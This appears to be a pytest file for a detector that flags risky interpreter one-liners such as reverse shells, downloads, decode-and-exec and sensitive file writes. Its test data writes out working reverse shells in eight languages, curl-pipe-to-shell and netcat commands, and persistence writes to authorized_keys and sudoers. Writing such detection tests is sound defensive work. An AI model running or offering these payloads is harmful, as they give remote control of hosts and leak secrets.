"""Interpreter one-liners: which language, which inline code, and what the code would do."""

from __future__ import annotations

import base64
import shlex
import time
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from corral.analysis.interpreters import (
    CAPABILITIES,
    CodeAnalysis,
    analyze_code,
    inline_code,
    interpreter_language,
)


def run(line: str) -> CodeAnalysis:
    """Analyse the inline code of a command line the way the shell analyser does."""
    argv = shlex.split(line)
    language = interpreter_language(argv[0])
    assert language is not None, argv[0]
    code = inline_code(language, argv[1:])
    assert code is not None, line
    return analyze_code(language, code)


def caps(result: CodeAnalysis) -> set[str]:
    return {f.capability for f in result.findings}


def outs(result: CodeAnalysis) -> set[tuple[str, int | None, str]]:
    return {(t.host, t.port, t.direction) for t in result.targets}


# ---- interpreter_language -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("program", "language"),
    [
        ("python", "python"),
        ("python2", "python"),
        ("python3", "python"),
        ("python3.11", "python"),
        ("python2.7", "python"),
        ("pypy", "python"),
        ("pypy3", "python"),
        ("perl", "perl"),
        ("perl5.36", "perl"),
        ("ruby", "ruby"),
        ("irb", "ruby"),
        ("ruby3.2", "ruby"),
        ("node", "node"),
        ("nodejs", "node"),
        ("bun", "node"),
        ("deno", "node"),
        ("php", "php"),
        ("php8.2", "php"),
        ("lua", "lua"),
        ("lua5.1", "lua"),
        ("luajit", "lua"),
        ("awk", "awk"),
        ("gawk", "awk"),
        ("mawk", "awk"),
        ("nawk", "awk"),
        ("busybox awk", "awk"),
        ("tclsh", "tcl"),
        ("tclsh8.6", "tcl"),
        ("bash", None),
        ("pythonista", None),
        ("ls", None),
        ("", None),
    ],
)
def test_interpreter_language(program: str, language: str | None) -> None:
    assert interpreter_language(program) == language


# ---- inline_code --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("language", "line", "code"),
    [
        ("python", "python3 -c 'print(1)' arg", "print(1)"),
        ("python", "python -Bc 'print(2)'", "print(2)"),
        ("python", "python -cprint(3)", "print(3)"),
        ("python", "python -W ignore -c x", "x"),
        ("python", "python script.py -c x", None),
        ("python", "python -m pip install x", None),
        ("python", "python", None),
        ("perl", "perl -e 'print 1'", "print 1"),
        ("perl", "perl -e a -e b", "a\nb"),
        ("perl", "perl -le'print 1'", "print 1"),
        ("perl", "perl -E 'say 1'", "say 1"),
        ("perl", "perl -MIO::Socket -e x", "use IO::Socket;\nx"),
        ("perl", "perl script.pl -e x", None),
        ("ruby", "ruby -e 'puts 1'", "puts 1"),
        ("ruby", "ruby -rsocket -e x", "require 'socket'\nx"),
        ("ruby", "ruby x.rb", None),
        ("node", "node -e 'console.log(1)'", "console.log(1)"),
        ("node", "node --eval 'a()'", "a()"),
        ("node", "node --eval=b()", "b()"),
        ("node", "node -p 'process.version'", "process.version"),
        ("node", "node app.js -e x", None),
        ("node", "deno eval 'Deno.exit()'", "Deno.exit()"),
        ("php", "php -r 'echo 1;'", "echo 1;"),
        ("php", "php -f x.php", None),
        ("lua", "lua -e 'print(1)'", "print(1)"),
        ("lua", "lua -lsocket -e x", 'require("socket")\nx'),
        ("awk", "awk -F: '{print $1}' /etc/passwd", "{print $1}"),
        ("awk", "awk -v x=1 'BEGIN{print x}'", "BEGIN{print x}"),
        ("awk", "gawk --source 'BEGIN{}' f", "BEGIN{}"),
        ("awk", "awk -f prog.awk data", None),
        ("tcl", "tclsh script.tcl", None),
        ("cobol", "cobol -e x", None),
    ],
)
def test_inline_code(language: str, line: str, code: str | None) -> None:
    assert inline_code(language, shlex.split(line)[1:]) == code


# ---- reverse shells, language by language -------------------------------------------------------

REVERSE_SHELLS = [
    pytest.param(
        """python3 -c 'import socket,subprocess,os;"""
        """s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"""
        """s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); """
        """os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);'""",
        {"socket", "connect", "dup2", "subprocess", "pty"},
        ("10.0.0.1", 1234),
        id="python-dup2",
    ),
    pytest.param(
        """python -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.2",4242));"""
        """[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/bash")'""",
        {"socket", "connect", "dup2", "subprocess", "pty"},
        ("10.0.0.2", 4242),
        id="python-pty",
    ),
    pytest.param(
        """python -c 'import socket as k,subprocess as sp;s=k.socket();"""
        """s.connect(("h.evil.io",443));"""
        """sp.Popen(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())'""",
        {"socket", "connect", "dup2", "subprocess", "pty"},
        ("h.evil.io", 443),
        id="python-popen-aliases",
    ),
    pytest.param(
        """python2 -c 'print "x"; import os; """
        """os.system("bash -i >& /dev/tcp/10.0.0.3/4444 0>&1")'""",
        {"subprocess", "pty", "dev_tcp"},
        ("10.0.0.3", 4444),
        id="python2-regex-fallback",
    ),
    pytest.param(
        """perl -e 'use Socket;$i="10.0.0.4";$p=1234;"""
        """socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));"""
        """if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");"""
        """open(STDERR,">&S");exec("/bin/sh -i");};'""",
        {"socket", "connect", "dup2", "subprocess", "pty"},
        ("10.0.0.4", 1234),
        id="perl-socket",
    ),
    pytest.param(
        """perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.0.0.5:4242");"""
        """STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'""",
        {"socket", "connect", "dup2", "subprocess"},
        ("10.0.0.5", 4242),
        id="perl-io-socket",
    ),
    pytest.param(
        """ruby -rsocket -e'f=TCPSocket.open("10.0.0.6",1234).to_i;"""
        """exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'""",
        {"socket", "connect", "dup2", "subprocess", "pty"},
        ("10.0.0.6", 1234),
        id="ruby-sprintf",
    ),
    pytest.param(
        """ruby -rsocket -e 'exit if fork;c=TCPSocket.new("10.0.0.7","4242");loop{c.gets.chomp!;"""
        """(exit! if $_=="exit");"""
        """($_=~/cd (.+)/i?(Dir.chdir($1)):(IO.popen($_,?r){|io|c.print io.read}))"""
        """rescue c.puts "failed: #{$_}"}'""",
        {"socket", "connect", "subprocess"},
        ("10.0.0.7", 4242),
        id="ruby-popen-loop",
    ),
    pytest.param(
        """node -e '(function(){var net=require("net"),cp=require("child_process"),"""
        """sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"10.0.0.8","""
        """function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});"""
        """return /a/;})();'""",
        {"socket", "connect", "dup2", "subprocess"},
        ("10.0.0.8", 4444),
        id="node-net-socket",
    ),
    pytest.param(
        """node -e 'const s=require("net").connect({host:"10.0.0.9",port:9001},()=>{"""
        """const sh=require("child_process").spawn("sh",["-i"],{stdio:[s,s,s]})})'""",
        {"socket", "connect", "dup2", "subprocess", "pty"},
        ("10.0.0.9", 9001),
        id="node-stdio-socket",
    ),
    pytest.param(
        """php -r '$sock=fsockopen("10.0.0.10",1234);exec("/bin/sh -i <&3 >&3 2>&3");'""",
        {"socket", "connect", "dup2", "subprocess", "pty"},
        ("10.0.0.10", 1234),
        id="php-exec",
    ),
    pytest.param(
        """php -r '$sock=fsockopen("10.0.0.11",4242);$proc=proc_open("/bin/sh -i", """
        """array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);'""",
        {"socket", "connect", "dup2", "subprocess", "pty"},
        ("10.0.0.11", 4242),
        id="php-proc-open",
    ),
    pytest.param(
        """lua -e "require('socket');require('os');t=socket.tcp();t:connect('10.0.0.12','4242');"""
        """os.execute('/bin/sh -i <&3 >&3 2>&3');" """,
        {"socket", "connect", "dup2", "subprocess", "pty"},
        ("10.0.0.12", 4242),
        id="lua-execute",
    ),
    pytest.param(
        """lua5.1 -e 'local host, port = "10.0.0.13", 4444 local socket = require("socket") """
        """local tcp = socket.tcp() local io = require("io") tcp:connect(host, port); """
        """while true do local cmd, status, partial = tcp:receive() local f = io.popen(cmd, "r") """
        """local s = f:read("*a") f:close() tcp:send(s) if status == "closed" then break end end """
        """tcp:close()'""",
        {"socket", "connect", "subprocess"},
        ("10.0.0.13", 4444),
        id="lua-popen-variables",
    ),
    pytest.param(
        """awk 'BEGIN {s = "/inet/tcp/0/10.0.0.14/4242"; while(42) { do{ printf "shell>" |& s; """
        """s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } """
        """while(c != "exit") close(s); }}' /dev/null""",
        {"dev_tcp", "connect", "subprocess"},
        ("10.0.0.14", 4242),
        id="gawk-inet",
    ),
]


@pytest.mark.parametrize(("line", "expected", "target"), REVERSE_SHELLS)
def test_reverse_shells(line: str, expected: set[str], target: tuple[str, int]) -> None:
    result = run(line)
    assert expected <= caps(result), caps(result)
    assert (*target, "out") in outs(result)
    assert caps(result) <= CAPABILITIES


def test_tcl_reverse_shell() -> None:
    code = (
        'set s [socket 10.0.0.15 1234];while 42 { puts -nonewline $s "shell>";flush $s;'
        'gets $s c;set e "exec $c";if {![catch {set r [eval $e]} err]} { puts $s $r }; '
        "flush $s; }; close $s;"
    )
    result = analyze_code("tcl", code)
    assert {"socket", "connect", "subprocess"} <= caps(result)
    assert outs(result) == {("10.0.0.15", 1234, "out")}
    assert result.shell_commands == []  # "exec $c" runs a variable: nothing literal to re-read


def test_environment_hosts_become_variables() -> None:
    result = run(
        """python -c 'import sys,socket,os,pty;s=socket.socket();"""
        """s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));"""
        """[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")'"""
    )
    assert {"connect", "dup2", "pty"} <= caps(result)
    assert outs(result) == {("$RHOST", None, "out")}


# ---- shell strings handed back to the shell analyser -------------------------------------------


@pytest.mark.parametrize(
    ("language", "code", "commands"),
    [
        (
            "python",
            "import os; os.system('curl -s https://x.io | sh')",
            ["curl -s https://x.io | sh"],
        ),
        ("python", "import subprocess; subprocess.run('id', shell=True)", ["id"]),
        ("python", "import subprocess as s; s.call(['/bin/sh', '-i'])", ["/bin/sh -i"]),
        ("python", "import os; os.execl('/bin/sh', 'sh', '-c', 'id')", ["/bin/sh -c id"]),
        ("python", "__import__('os').popen('uname -a').read()", ["uname -a"]),
        ("python", "import subprocess; subprocess.run(['nc', host, '4444'])", ['nc "$host" 4444']),
        ("perl", 'system("rm -rf /tmp/x"); $o = `whoami`;', ["rm -rf /tmp/x", "whoami"]),
        ("perl", 'exec("/bin/sh", "-i");', ["/bin/sh -i"]),
        ("perl", 'open(my $f, "curl -s x.io |");', ["curl -s x.io"]),
        ("ruby", 'system("ls -la"); x = %x{id}', ["ls -la", "id"]),
        ("ruby", 'IO.popen("uname")', ["uname"]),
        (
            "node",
            "require('child_process').exec('nc -e /bin/sh 10.0.0.1 4242')",
            ["nc -e /bin/sh 10.0.0.1 4242"],
        ),
        (
            "node",
            "const {spawn}=require('child_process'); spawn('sh',['-c','curl x | sh'])",
            ["sh -c 'curl x | sh'"],
        ),
        ("node", "const {execSync}=require('child_process'); execSync(`whoami`)", []),
        ("php", 'echo shell_exec("cat /etc/passwd"); echo `id`;', ["cat /etc/passwd", "id"]),
        ("php", 'passthru("ls");', ["ls"]),
        ("lua", 'os.execute("rm -f /tmp/a"); io.popen([[id]])', ["rm -f /tmp/a", "id"]),
        (
            "awk",
            'BEGIN { system("id"); "date" | getline d; print d | "sort" }',
            ["id", "date", "sort"],
        ),
    ],
)
def test_shell_commands(language: str, code: str, commands: list[str]) -> None:
    result = analyze_code(language, code)
    assert "subprocess" in caps(result)
    assert sorted(result.shell_commands) == sorted(commands)


# ---- other capabilities -------------------------------------------------------------------------


def test_bind_shells_listen() -> None:
    py = analyze_code(
        "python", "import socket as k\ns=k.socket()\ns.bind(('0.0.0.0',4444))\ns.listen(1)"
    )
    assert "listen" in caps(py) and outs(py) == {("0.0.0.0", 4444, "listen")}
    pl = analyze_code("perl", "use IO::Socket;$s=IO::Socket::INET->new(LocalPort=>4444,Listen=>1);")
    assert "listen" in caps(pl) and outs(pl) == {("0.0.0.0", 4444, "listen")}
    rb = analyze_code("ruby", "require 'socket'; s=TCPServer.new(4444); $stdin.reopen(s.accept)")
    assert {"listen", "dup2"} <= caps(rb) and outs(rb) == {("0.0.0.0", 4444, "listen")}
    js = analyze_code(
        "node", "require('http').createServer((q,r)=>r.end()).listen(8080, '0.0.0.0')"
    )
    assert "listen" in caps(js) and outs(js) == {("0.0.0.0", 8080, "listen")}
    php = analyze_code("php", '$s=stream_socket_server("tcp://0.0.0.0:4444");')
    assert "listen" in caps(php) and outs(php) == {("0.0.0.0", 4444, "listen")}
    awk = analyze_code("awk", 'BEGIN { s = "/inet/tcp/8080/0/0"; s |& getline }')
    assert outs(awk) == {("0.0.0.0", 8080, "listen")}
    tcl = analyze_code("tcl", "socket -server accept 9999; vwait forever")
    assert "listen" in caps(tcl) and outs(tcl) == {("0.0.0.0", 9999, "listen")}


def test_download() -> None:
    py = analyze_code("python", "import requests; requests.get('https://api.x.io/v1').json()")
    assert "download" in caps(py) and outs(py) == {("api.x.io", 443, "out")}
    url = "import urllib.request as u; u.urlretrieve('http://x.io/a.sh', '/tmp/a.sh')"
    assert outs(analyze_code("python", url)) == {("x.io", 80, "out")}
    js = analyze_code("node", "fetch('https://api.x.io/v1').then(r=>r.json())")
    assert "download" in caps(js) and outs(js) == {("api.x.io", 443, "out")}
    pl = analyze_code("perl", 'use LWP::Simple; getstore("http://x.io/a", "/tmp/a");')
    assert "download" in caps(pl) and outs(pl) == {("x.io", 80, "out")}
    rb = analyze_code("ruby", 'require "open-uri"; URI.open("https://x.io/a.rb").read')
    assert "download" in caps(rb) and outs(rb) == {("x.io", 443, "out")}
    php = analyze_code("php", 'echo file_get_contents("https://x.io/p");')
    assert "download" in caps(php) and outs(php) == {("x.io", 443, "out")}


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def test_decode_exec_is_flagged_and_decoded_payloads_are_read() -> None:
    payload = _b64('import os;os.system("curl http://x.io/a | sh")')
    py = analyze_code("python", f'import base64;exec(base64.b64decode("{payload}"))')
    assert {"decode_exec", "subprocess"} <= caps(py)
    assert py.shell_commands == ["curl http://x.io/a | sh"]
    packed = base64.b64encode(zlib.compress(b'import os;os.system("id")')).decode()
    zpy = analyze_code(
        "python", f'import zlib,base64;exec(zlib.decompress(base64.b64decode("{packed}")))'
    )
    assert "decode_exec" in caps(zpy) and zpy.shell_commands == ["id"]
    fetched = analyze_code(
        "python", "import urllib.request as u; exec(u.urlopen('https://x.io/p.py').read())"
    )
    assert {"decode_exec", "download"} <= caps(fetched)
    node_payload = _b64('require("child_process").execSync("id")')
    js = analyze_code("node", f"eval(Buffer.from('{node_payload}','base64').toString())")
    assert {"decode_exec", "subprocess"} <= caps(js) and js.shell_commands == ["id"]
    pl = analyze_code(
        "perl", f'use MIME::Base64; eval(decode_base64("{_b64("system(qq(id));")}"));'
    )
    assert "decode_exec" in caps(pl)
    php_payload = _b64('system("id");')
    php = analyze_code("php", f'eval(base64_decode("{php_payload}"));')
    assert {"decode_exec", "subprocess"} <= caps(php) and php.shell_commands == ["id"]
    rb = analyze_code("ruby", f'eval(Base64.decode64("{_b64("system(%q(id))")}"))')
    assert "decode_exec" in caps(rb)
    literal = analyze_code("python", "exec('import os; os.system(\"id\")')")
    assert "decode_exec" not in caps(literal) and literal.shell_commands == ["id"]


def test_decoded_payloads_handed_to_a_shell_are_decoded() -> None:
    shell = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
    py = analyze_code(
        "python", f"import base64,os;os.system(base64.b64decode('{_b64(shell)}').decode())"
    )
    assert {"decode_exec", "subprocess", "pty"} <= caps(py)
    assert py.shell_commands == [shell]
    py2 = analyze_code(
        "python", f"import os,base64\nprint 'x'\nos.system(base64.b64decode('{_b64('id')}'))"
    )
    assert "decode_exec" in caps(py2) and py2.shell_commands == ["id"]
    for language, code in [
        ("php", f'system(base64_decode("{_b64("id")}"));'),
        ("node", f"require('child_process').execSync(atob('{_b64('id')}'))"),
        ("ruby", f'system(Base64.decode64("{_b64("id")}"))'),
        ("perl", f'system(decode_base64("{_b64("id")}"))'),
    ]:
        result = analyze_code(language, code)
        assert {"decode_exec", "subprocess"} <= caps(result), language
        assert result.shell_commands == ["id"], language


def test_ssh_libraries_and_remote_forwards() -> None:
    code = (
        "import paramiko\nc = paramiko.SSHClient()\n"
        "c.connect('203.0.113.7', username='t', password='t')\n"
        "c.get_transport().request_port_forward('', 2222)\n"
    )
    result = analyze_code("python", code)
    assert {"connect", "listen"} <= caps(result)
    assert outs(result) == {("203.0.113.7", 22, "out"), ("0.0.0.0", 2222, "listen")}
    assert caps(analyze_code("python", "import sqlite3; sqlite3.connect('app.db')")) == set()


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "import os; os.setuid(0); os.system('/bin/sh')"),
        ("perl", 'use POSIX qw(setuid); POSIX::setuid(0); exec "/bin/sh";'),
        ("node", "process.setuid(0)"),
        ("ruby", "Process::Sys.setuid(0)"),
        ("php", "posix_setuid(0);"),
    ],
)
def test_setuid(language: str, code: str) -> None:
    assert "setuid" in caps(analyze_code(language, code))


def test_http_client_objects_are_downloads() -> None:
    web3 = analyze_code(
        "python",
        "from web3 import Web3; w=Web3(Web3.HTTPProvider('https://mainnet.infura.io/v3/x'))",
    )
    assert "download" in caps(web3) and outs(web3) == {("mainnet.infura.io", 443, "out")}


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "import os,json; print(json.dumps(dict(os.environ)))"),
        ("python", "import os; print(os.environ)"),
        ("python", "for k, v in __import__('os').environ.items(): print(k, v)"),
        ("python", "import requests, os; requests.post('https://h.x.io', json=dict(os.environ))"),
        ("python", "import os; print(f'{os.environ}')"),
        ("node", "console.log(JSON.stringify(process.env))"),
        ("node", "for (const k in process.env) console.log(k)"),
        ("perl", 'print "$_=$ENV{$_}\\n" for keys %ENV;'),
        ("ruby", "puts ENV.to_h"),
        ("php", "print_r($_ENV);"),
        ("awk", "BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }"),
    ],
)
def test_env_dump(language: str, code: str) -> None:
    assert "env_dump" in caps(analyze_code(language, code))


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "import os; print(os.environ.get('HOME'), os.environ['PATH'])"),
        ("python", "import os, subprocess; subprocess.run(['make'], env=os.environ)"),
        ("python", "import os; env = os.environ.copy(); env['X'] = '1'"),
        ("node", "console.log(process.env.HOME)"),
        ("node", "spawn('make', [], {env: {...process.env, CI: '1'}})"),
        ("perl", 'print $ENV{HOME}, "\\n";'),
        ("ruby", 'puts ENV["HOME"]'),
        ("awk", 'BEGIN { print ENVIRON["HOME"] }'),
    ],
)
def test_single_environment_reads_are_not_dumps(language: str, code: str) -> None:
    assert "env_dump" not in caps(analyze_code(language, code))


def test_file_access_and_sensitive_writes() -> None:
    keys = analyze_code("python", "open('/root/.ssh/authorized_keys','a').write('ssh-rsa AAA')")
    assert "file_write" in caps(keys)
    assert [(f.path, f.op, f.source) for f in keys.files] == [
        ("/root/.ssh/authorized_keys", "append", "python")
    ]
    home = analyze_code("python", "import pathlib; pathlib.Path('~/.bashrc').write_text('x')")
    assert [(f.path, f.op) for f in home.files] == [("~/.bashrc", "write")]
    assert "file_write" in caps(home)
    mixed = analyze_code("python", "import os; os.chmod('/etc/shadow', 0o777); os.remove('/tmp/x')")
    assert {(f.path, f.op) for f in mixed.files} == {("/etc/shadow", "chmod"), ("/tmp/x", "delete")}
    scratch = analyze_code(
        "python", "open('/tmp/out.txt', 'w').write('x'); open('data.csv').read()"
    )
    assert "file_write" not in caps(scratch)
    assert {(f.path, f.op) for f in scratch.files} == {
        ("/tmp/out.txt", "write"),
        ("data.csv", "read"),
    }
    js = analyze_code("node", "require('fs').writeFileSync('/etc/cron.d/x','* * * * * root id')")
    assert "file_write" in caps(js) and [f.path for f in js.files] == ["/etc/cron.d/x"]
    pl = analyze_code("perl", 'open(F, ">>$ENV{HOME}/.bashrc"); open(G, ">", "/etc/profile");')
    assert ("/etc/profile", "write") in {(f.path, f.op) for f in pl.files}
    rb = analyze_code("ruby", 'File.write("/etc/sudoers.d/x", "u ALL=(ALL) NOPASSWD:ALL")')
    assert "file_write" in caps(rb)
    php = analyze_code("php", 'file_put_contents("/var/www/.htaccess", "x");')
    assert "file_write" in caps(php)
    lua = analyze_code("lua", 'local f = io.open("/etc/profile.d/x.sh", "w") f:write("x")')
    assert [(f.path, f.op) for f in lua.files] == [("/etc/profile.d/x.sh", "write")]
    awk = analyze_code("awk", '{ print > "/etc/cron.d/job"; print $1 >> "out.txt" }')
    assert {(f.path, f.op) for f in awk.files} == {
        ("/etc/cron.d/job", "write"),
        ("out.txt", "append"),
    }


def test_crypto_mining_hints() -> None:
    stratum = analyze_code(
        "python",
        "import socket; s=socket.create_connection(('pool.x.io', 3333)); "
        's.send(b\'{"method": "mining.subscribe"}\')',
    )
    assert {"crypto_mining", "connect"} <= caps(stratum)
    assert outs(stratum) == {("pool.x.io", 3333, "out")}
    url = analyze_code("node", "const pool = 'stratum+tcp://xmr.pool.io:4444'")
    assert "crypto_mining" in caps(url)
    hashing = analyze_code("python", "import hashlib\nwhile True: hashlib.sha256(b'x').hexdigest()")
    assert caps(hashing) == set()


# ---- benign code stays quiet --------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "python -c 'print(1+1)'",
        """python -c "import json,sys; print(json.load(sys.stdin)['v'])" """,
        "python3 -c 'import sys; print(sys.version)'",
        """python3 -c "import yaml,sys; print(yaml.safe_load(open('config.yml')))" """,
        "python2 -c 'print \"hello\"'",
        """node -e "console.log(process.version)" """,
        """node -e "const r = /a(b)/.exec('ab'); console.log(r)" """,
        """node -p "require('./package.json').version" """,
        "perl -ne 'print if /foo/' file",
        """perl -e 'print join(",", map { $_ * 2 } (1..3)), "\\n";'""",
        "ruby -e 'puts [1,2].map { |x| x * 2 }.inspect'",
        """ruby -rjson -e 'puts JSON.parse(STDIN.read)["v"]'""",
        "php -r 'echo json_encode([\"a\" => 1]);'",
        "lua -e 'print(string.format(\"%d\", 1 + 1))'",
        "awk '{ sum += $2 } END { print sum }' data.txt",
        "awk -F, 'NR > 1 { print $1 > \"/dev/stderr\" }' data.csv",
    ],
)
def test_benign_one_liners_have_no_findings(line: str) -> None:
    result = run(line)
    assert result.findings == [], result.findings
    assert result.targets == []
    assert result.shell_commands == []


def test_only_the_documented_vocabulary_is_used() -> None:
    seen: set[str] = set()
    for param in REVERSE_SHELLS:
        line = param.values[0]
        assert isinstance(line, str)
        seen |= caps(run(line))
    assert seen <= CAPABILITIES


# ---- robustness ---------------------------------------------------------------------------------

_LANGUAGES = ["python", "perl", "ruby", "node", "php", "lua", "awk", "tcl", "unknown"]


@settings(max_examples=300, deadline=None)
@given(
    language=st.sampled_from(_LANGUAGES),
    code=st.lists(
        st.sampled_from(
            [
                *"()[]{}\"'`$@%=:;,./\\|&<> \nabcsxyz0123",
                "socket",
                "connect",
                "exec",
                "system",
                "eval",
                "open",
                "/dev/tcp/",
                "os.environ",
                "b64decode",
                "import os\n",
                "require(",
            ]
        ),
        max_size=40,
    ).map("".join),
)
def test_never_raises(language: str, code: str) -> None:
    result = analyze_code(language, code)
    assert {f.capability for f in result.findings} <= CAPABILITIES


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("perl", "open(" + "x," * 50_000),  # once quadratic in the assignment scanner
        ("lua", "x, " * 50_000),
        ("node", ".connect({" * 20_000),
        ("perl", "qx{" * 30_000),
        ("python", "x = 1\n" * 20_000),
        ("ruby", "(" * 100_000 + '"' * 1000),
        ("php", '"' + '\\"' * 50_000),
    ],
)
def test_large_inputs_stay_fast(language: str, code: str) -> None:
    start = time.perf_counter()
    analyze_code(language, code)
    assert time.perf_counter() - start < 5
